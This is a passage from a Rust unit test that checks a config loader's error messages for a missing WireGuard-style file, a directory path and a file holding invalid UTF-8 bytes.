            e.to_string()
                .starts_with("/nonexistent/warren/wg0.conf: cannot open")
        );
        let dir = tempfile::tempdir().unwrap();
        let e = load(dir.path()).unwrap_err();
        assert!(e.message.contains("is a directory"), "{e}");
        let mut f = tempfile::NamedTempFile::new().unwrap();
        f.write_all(b"[Interface]\n\xff\xfe\n").unwrap();
        let e = load(f.path()).unwrap_err();
        assert!(e.message.contains("not UTF-8"), "{e}");
    }
}
